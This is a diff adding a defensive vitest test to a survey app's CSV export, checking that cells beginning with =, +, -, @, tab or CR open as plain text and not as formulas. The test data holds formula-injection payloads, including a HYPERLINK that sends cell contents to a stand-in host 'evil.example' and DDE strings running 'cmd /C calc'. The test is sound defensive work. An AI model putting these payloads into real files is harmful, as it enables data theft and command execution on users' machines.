@@ -1,5 +1,6 @@
 import type { Question, StoredResponse } from "@parley/schema";
 import { describe, expect, it } from "vitest";
+import * as XLSX from "xlsx";
 import { csvChunks, exportColumns, knownAnswerIds } from "./exports.ts";
 
 async function* once<T>(value: T) {
@@ -59,5 +60,52 @@ describe("exports", () => {
 
   it("knows the ids it has columns for", () => {
     expect(knownAnswerIds(questions)).toEqual(["1", "2", "2.1", "2.2"]);
+  });
+
+  it("holds no formula when a spreadsheet opens the CSV: questions, options and answers starting with = + - @, tab or CR are text", async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      "+1+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1,1)",
+      "\t=1+1",
+      "\r=1+1",
+    ];
+    const hostileQuestions: Question[] = hostile.map((text, i) => ({
+      id: i + 1,
+      question: text,
+      type: "radio",
+      options: [{ key: 0, value: text }],
+    }));
+    const rows: StoredResponse[] = [
+      {
+        id: "r1",
+        createdAt: "2026-01-02T03:04:05.000Z",
+        responses: hostile.map((text, i) => ({
+          id: String(i + 1),
+          question: text,
+          type: "radio",
+          answer: text,
+          isFollowUp: false,
+        })),
+      },
+      {
+        id: "r2",
+        createdAt: "2026-01-03T00:00:00.000Z",
+        responses: [{ id: "7", question: "Rate it", type: "slider", answer: "-3", isFollowUp: false }],
+      },
+    ];
+    const book = XLSX.read(await csvOf(hostileQuestions, rows, [{ id: "7", question: "Rate it" }]), { type: "string" });
+    const sheet = book.Sheets[book.SheetNames[0] ?? ""];
+    if (!sheet) throw new Error("no sheet");
+    for (const [address, cell] of Object.entries(sheet)) {
+      if (!address.startsWith("!")) expect((cell as { f?: string }).f, address).toBeUndefined();
+    }
+    const cells = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: false, defval: "" });
+    const expected = hostile.map((text) => `'${text}`);
+    expect(cells[0]?.slice(1, 7)).toEqual(expected);
+    expect(cells[1]?.slice(1, 7)).toEqual(expected);
+    // A slider answer stays a number.
+    expect(sheet.H3).toMatchObject({ t: "n", v: -3 });
   });
 });
